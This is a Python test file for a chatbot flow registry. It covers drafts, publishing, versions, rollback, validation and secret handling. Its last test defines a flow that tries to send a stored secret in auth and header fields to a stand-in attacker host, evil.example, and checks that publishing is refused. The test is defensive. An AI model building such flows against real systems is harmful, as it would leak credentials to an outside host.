"""Flows: drafts, versions, what publishing refuses."""

from __future__ import annotations

from typing import Any

import pytest

from registry.resources import flows
from support.registry_api import FLOW, Project, new_project
from support.waiting import eventually

pytestmark = pytest.mark.asyncio(loop_scope="module")
BROKEN: dict[str, Any] = FLOW | {
    "nodes": {"hello": {"type": "say", "parts": [{"text": "Hi"}], "ports": {"next": "gone"}}}
}
YAML = """
schema: flow/1
slug: from-yaml
name: "From YAML"
start: hello
nodes: {hello: {type: say, parts: [{text: "on"}]}}
"""


def calling(api: str) -> dict[str, Any]:
    nodes = {
        "hello": {"type": "call_api", "api": api, "ports": {"ok": "bye", "error": "bye"}},
        "bye": {"type": "end"},
    }
    return FLOW | {"nodes": nodes}


async def test_a_flow_is_saved_published_and_versioned(project: Project) -> None:
    bot = await project.bot()
    made = await project.post("/v1/flows", {"bot": bot, "document": FLOW})
    assert (made["slug"], made["name"], made["draft_version"], made["problems"]) == ("greeting", "Greeting", 1, [])
    assert "published" not in made
    path = f"/v1/flows/{made['id']}"
    assert (await project.post(f"{path}/publish", expect=200))["version"] == 1
    saved = await project.call("PUT", f"{path}/draft", {"document": FLOW | {"name": "Second"}})
    assert saved == {"draft_version": 2, "problems": []}
    assert (await project.get(path))["name"] == "Greeting"
    assert (await project.post(f"{path}/publish", expect=200))["version"] == 2
    shown = await project.get(path)
    assert (shown["name"], shown["published"]) == ("Second", 2)
    listed = (await project.get(f"{path}/versions"))["items"]
    assert [(one["version"], one["published"]) for one in listed] == [(2, True), (1, False)]
    assert (await project.get(f"{path}/versions/1"))["document"]["name"] == "Greeting"
    await project.get(f"{path}/versions/3", expect=404)
    found = await project.get(f"{path}/diff?from=1&to=2")
    assert (found["from"], found["to"], found["nodes"]["changed"]) == (1, 2, [])
    assert found["changes"] == [{"pointer": "#/name", "kind": "changed", "before": "Greeting", "after": "Second"}]
    await project.get(f"{path}/diff?from=1&to=3", expect=404)
    for wrong in ("from=1", "from=1&to=x"):
        await project.get(f"{path}/diff?{wrong}", expect=422)


async def test_test_cases_stay_with_the_draft_and_are_no_part_of_a_version(project: Project) -> None:
    tests = [{"name": "It greets", "steps": [{"say": "/start"}]}]
    made = await project.post("/v1/flows", {"bot": await project.bot(), "document": FLOW | {"tests": tests}})
    assert made["problems"] == []
    path = f"/v1/flows/{made['id']}"
    await project.post(f"{path}/publish", expect=200)
    assert (await project.get(f"{path}/versions/1"))["document"] == FLOW
    assert (await project.get(f"{path}/draft"))["document"]["tests"] == tests


async def test_rollback_starts_new_sessions_on_an_earlier_version(project: Project) -> None:
    flow = await project.published_flow(await project.bot())
    await project.post(f"/v1/flows/{flow}/publish", expect=200)
    await project.post(f"/v1/flows/{flow}/rollback", {"version": 1}, expect=200)
    assert (await project.get(f"/v1/flows/{flow}"))["published"] == 1
    await project.post(f"/v1/flows/{flow}/rollback", {"version": 9}, expect=404)


async def test_a_flow_says_when_it_is_scheduled_since_it_was_published(project: Project) -> None:
    daily = {"id": "daily", "type": "schedule", "cron": "0 9 * * *", "timezone": "Europe/Riga", "to": "hello"}
    flow = await project.published_flow(await project.bot(), triggers=[daily])
    first = await project.get(f"/v1/flows/{flow}")
    assert [one["trigger"] for one in first["schedules"]] == ["daily"]
    await project.call("PUT", f"/v1/flows/{flow}/draft", {"document": FLOW})
    assert (await project.get(f"/v1/flows/{flow}"))["schedules"] == first["schedules"]
    await project.post(f"/v1/flows/{flow}/publish", expect=200)
    second = await project.get(f"/v1/flows/{flow}")
    await project.post(f"/v1/flows/{flow}/rollback", {"version": 1}, expect=200)
    third = await project.get(f"/v1/flows/{flow}")
    assert (second["schedules"], third["schedules"]) == ([], first["schedules"])
    assert first["published_at"] < second["published_at"] < third["published_at"]


async def test_yaml_is_taken_too(project: Project) -> None:
    made = await project.post("/v1/flows", {"bot": await project.bot(), "document": YAML})
    assert (made["slug"], made["problems"]) == ("from-yaml", [])
    draft = await project.get(f"/v1/flows/{made['id']}/draft")
    assert draft["document"]["nodes"]["hello"]["parts"] == [{"text": "on"}]


async def test_a_broken_draft_is_saved_with_its_problems_but_not_published(project: Project) -> None:
    made = await project.post("/v1/flows", {"bot": await project.bot(), "document": BROKEN})
    problems = [problem for problem in made["problems"] if problem["severity"] == "error"]
    assert problems[0]["pointer"].startswith("#/nodes/hello")
    refused = await project.post(f"/v1/flows/{made['id']}/publish", expect=422)
    assert [error["pointer"] for error in refused["errors"]] == [problem["pointer"] for problem in problems]
    assert (await project.get(f"/v1/flows/{made['id']}/versions"))["items"] == []


@pytest.mark.parametrize("document", [{}, {"schema": "flow/2"}, {"schema": "flow/1", "slug": "No Slug"}, "a: [", "- x"])
async def test_what_is_no_flow_at_all_is_refused(project: Project, document: Any) -> None:
    await project.post("/v1/flows", {"bot": await project.bot(), "document": document}, expect=422)


async def test_a_document_is_checked_without_being_saved(project: Project) -> None:
    bot = await project.bot()
    found = await project.post("/v1/flows/check", {"bot": bot, "document": BROKEN}, expect=200)
    assert any(problem["severity"] == "error" for problem in found["problems"])
    assert (await project.get("/v1/flows"))["items"] == []


async def test_an_unknown_api_call_is_a_problem_and_a_used_one_is_kept(project: Project) -> None:
    bot = await project.bot()
    unknown = await project.post("/v1/flows/check", {"bot": bot, "document": calling("seats")}, expect=200)
    assert any("seats" in problem["detail"] for problem in unknown["problems"])
    call = {"name": "seats", "method": "GET", "url": "https://api.example.com/seats"}
    api = (await project.post("/v1/api-calls", call))["id"]
    flow = (await project.post("/v1/flows", {"bot": bot, "document": calling("seats")}))["id"]
    await project.post(f"/v1/flows/{flow}/publish", expect=200)
    problem = await project.call("DELETE", f"/v1/api-calls/{api}", expect=409)
    assert [user["id"] for user in problem["used_by"]] == [flow]
    await project.call("PATCH", f"/v1/api-calls/{api}", {"name": "places"}, expect=409)


async def test_a_command_belongs_to_one_published_flow_of_a_bot(project: Project) -> None:
    bot = await project.bot()
    await project.published_flow(bot)
    other = await project.flow(bot, slug="other")
    refused = await project.post(f"/v1/flows/{other}/publish", expect=422)
    assert "/start" in refused["errors"][0]["detail"]


async def test_a_published_flow_does_not_collide_with_itself(project: Project) -> None:
    bot = await project.bot()
    flow = await project.published_flow(bot)
    assert (await project.get(f"/v1/flows/{flow}/draft"))["problems"] == []
    assert (await project.call("PUT", f"/v1/flows/{flow}/draft", {"document": FLOW}))["problems"] == []
    checked = await project.post("/v1/flows/check", {"bot": bot, "document": FLOW}, expect=200)
    assert checked == {"problems": []}
    other = await project.post("/v1/flows/check", {"bot": bot, "document": FLOW | {"slug": "other"}}, expect=200)
    assert [problem["code"] for problem in other["problems"]] == ["command-taken"]


async def test_a_version_without_the_entry_of_a_live_trigger_is_published_by_force_only(project: Project) -> None:
    bot = await project.bot()
    await project.http_channel(bot)
    flow = await project.published_flow(bot)
    path = f"/v1/flows/{flow}"
    made = await project.post("/v1/triggers", {"flow": flow, "entry": "bought", "new_token": {"name": "shop"}})
    kept = [trigger for trigger in FLOW["triggers"] if trigger["id"] != "bought"]
    await project.call("PUT", f"{path}/draft", {"document": FLOW | {"triggers": kept}})
    refused = await project.post(f"{path}/publish", expect=409)
    assert [(user["kind"], user["id"]) for user in refused["used_by"]] == [("trigger", made["id"])]
    assert "'bought'" in refused["detail"]
    assert (await project.get(path))["published"] == 1
    assert (await project.post(f"{path}/publish", {"force": True}, expect=200))["version"] == 2
    assert (await project.post(f"{path}/publish", expect=200))["version"] == 3
    await project.post(f"{path}/rollback", {"version": 1}, expect=200)
    await project.post(f"{path}/rollback", {"version": 2}, expect=409)
    await project.post(f"{path}/rollback", {"version": 2, "force": True}, expect=200)


@pytest.mark.parametrize("type", ["jump", "call"])
async def test_a_version_without_a_node_that_another_flow_leads_to_is_published_by_force_only(
    project: Project, type: str
) -> None:
    bot = await project.bot()
    nodes = FLOW["nodes"] | {"extra": {"type": "end"}}
    triggers = [*FLOW["triggers"], {"id": "extra", "type": "command", "value": "/extra", "to": "extra"}]
    flow = await project.published_flow(bot, nodes=nodes, triggers=triggers)
    jump = {"start": "j", "triggers": [], "nodes": {"j": {"type": type, "flow": FLOW["slug"], "to": "extra"}}}
    other = await project.published_flow(bot, slug="other", **jump)
    await project.call("PUT", f"/v1/flows/{flow}/draft", {"document": FLOW})
    refused = await project.post(f"/v1/flows/{flow}/publish", expect=409)
    assert [(user["kind"], user["id"]) for user in refused["used_by"]] == [("flow", other)]
    await project.post(f"/v1/flows/{flow}/publish", {"force": True}, expect=200)


async def test_a_slug_is_unique_in_its_bot(project: Project) -> None:
    bot = await project.bot()
    await project.flow(bot)
    problem = await project.post("/v1/flows", {"bot": bot, "document": FLOW}, expect=409)
    assert problem["type"].endswith("/name-taken")
    await project.flow(await project.bot())


async def test_a_stale_draft_is_refused(project: Project) -> None:
    flow = await project.flow(await project.bot())
    answer = await project.send("GET", f"/v1/flows/{flow}/draft")
    seen = {"if-match": answer.headers["etag"]}
    await project.call("PUT", f"/v1/flows/{flow}/draft", {"document": FLOW}, headers=seen)
    await project.call("PUT", f"/v1/flows/{flow}/draft", {"document": FLOW}, headers=seen, expect=412)


async def test_a_deleted_flow_leaves_its_versions_to_running_conversations(project: Project) -> None:
    flow = await project.published_flow(await project.bot())
    await project.call("DELETE", f"/v1/flows/{flow}", expect=204)
    await project.get(f"/v1/flows/{flow}", expect=404)
    tail = project.registry.tail
    assert f"flow_version/{flow}/1" in tail.last


@pytest.mark.parametrize("is_known", [True, False], ids=["this release's", "an earlier release's"])
async def test_who_publishes_reads_no_other_flows_document(
    project: Project, monkeypatch: pytest.MonkeyPatch, is_known: bool
) -> None:
    """Seen: each publication read the published documents of all flows of the bot. What an earlier release has published is read."""
    bot, read = await project.bot(), []
    if not is_known:
        monkeypatch.setattr("registry.resources.flows._about", lambda document: {})
    first = await project.published_flow(bot)
    monkeypatch.undo()
    version_of = flows.version_of

    async def reading(unit: Any, stored: Any, number: int) -> Any:
        read.append(stored.id)
        return await version_of(unit, stored, number)

    monkeypatch.setattr(flows, "version_of", reading)
    second = await project.flow(bot, slug="second")
    refused = await project.post(f"/v1/flows/{second}/publish", expect=422)
    assert [each["code"] for each in refused["errors"]] == ["command-taken"]
    assert set(read) == (set() if is_known else {first})


async def test_a_flow_can_be_deleted_with_those_who_stand_on_it_also_afterwards(project: Project) -> None:
    bot, tail = await project.bot(), project.registry.tail
    first, second = [await project.published_flow(await project.bot()) for _ in range(2)]
    keys = [f"flow_version/{flow}/1" for flow in (first, second)]
    made = [tail.last[key] for key in keys]
    await project.call("DELETE", f"/v1/flows/{first}?force=maybe", expect=422)
    await project.call("DELETE", f"/v1/flows/{first}?force=true", expect=204)
    await project.call("DELETE", f"/v1/flows/{second}", expect=204)
    await eventually(lambda: tail.last[keys[0]] > made[0])
    assert tail.last[keys[1]] == made[1]
    await (await new_project(project.registry)).call("DELETE", f"/v1/flows/{second}?force=true", expect=404)
    for _ in range(2):
        await project.call("DELETE", f"/v1/flows/{second}?force=true", expect=204)
    await eventually(lambda: tail.last[keys[1]] > made[1])
    await project.call("DELETE", f"/v1/flows/{second}", expect=404)
    await project.call("DELETE", f"/v1/bots/{bot}?force=true", expect=422)


async def test_a_document_too_large_for_the_topic_is_refused(project: Project) -> None:
    big = FLOW | {"nodes": {f"n{i}": {"type": "say", "parts": [{"text": "x" * 4000}]} for i in range(80)}}
    problem = await project.post("/v1/flows", {"bot": await project.bot(), "document": big}, expect=422)
    assert problem["type"].endswith("/entity-too-large")


async def test_the_last_twenty_versions_can_be_published_again(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is older is there for who stands on it."""
    monkeypatch.setattr("registry.resources.flows.KEPT_VERSIONS", 2)
    flow = await project.published_flow(await project.bot())
    for _ in range(3):
        await project.post(f"/v1/flows/{flow}/publish", expect=200)
    assert (await project.get(f"/v1/flows/{flow}"))["retired"] == 2
    refused = await project.post(f"/v1/flows/{flow}/rollback", {"version": 2}, expect=422)
    assert refused["errors"][0]["pointer"] == "#/version"
    await project.post(f"/v1/flows/{flow}/rollback", {"version": 3}, expect=200)
    assert (await project.get(f"/v1/flows/{flow}/versions/2"))["version"] == 2


def _asking(url: str) -> dict[str, Any]:
    node = {"type": "http_request", "url": url, "auth": "secret.crm", "headers": {"X-Key": "secret.crm"}}
    return FLOW | {"start": "r", "triggers": [], "nodes": {"r": node, "end": {"type": "end"}}, "on_error": "end"}


async def test_a_secret_goes_where_the_first_published_flow_that_names_it_sends_it(project: Project) -> None:
    """Who may define flows, but does not know the secret, does not have it sent to himself."""
    bot = await project.bot()
    flow = await project.flow(bot, **_asking("https://api.example.com/{{ user.name }}"))
    codes = [one["code"] for one in (await project.get(f"/v1/flows/{flow}/draft"))["problems"]]
    assert codes == ["unknown-secret", "unknown-secret"]
    await project.post(f"/v1/flows/{flow}/publish", expect=422)
    secret = await project.post("/v1/secrets", {"name": "crm", "value": "planted-value"})
    await project.post(f"/v1/flows/{flow}/publish", expect=200)
    assert (await project.get(f"/v1/secrets/{secret['id']}"))["hosts"] == ["https://api.example.com"]
    refused = await project.call("DELETE", f"/v1/secrets/{secret['id']}", expect=409)
    assert [(user["kind"], user["id"]) for user in refused["used_by"]] == [("flow", flow)]
    evil = await project.flow(bot, **_asking("https://evil.example/") | {"slug": "evil"})
    codes = [one["code"] for one in (await project.get(f"/v1/flows/{evil}/draft"))["problems"]]
    assert codes == ["secret-elsewhere", "secret-elsewhere"]
    await project.post(f"/v1/flows/{evil}/publish", expect=422)
    await project.call("DELETE", f"/v1/flows/{flow}", expect=204)
    await project.call("DELETE", f"/v1/secrets/{secret['id']}", expect=204)
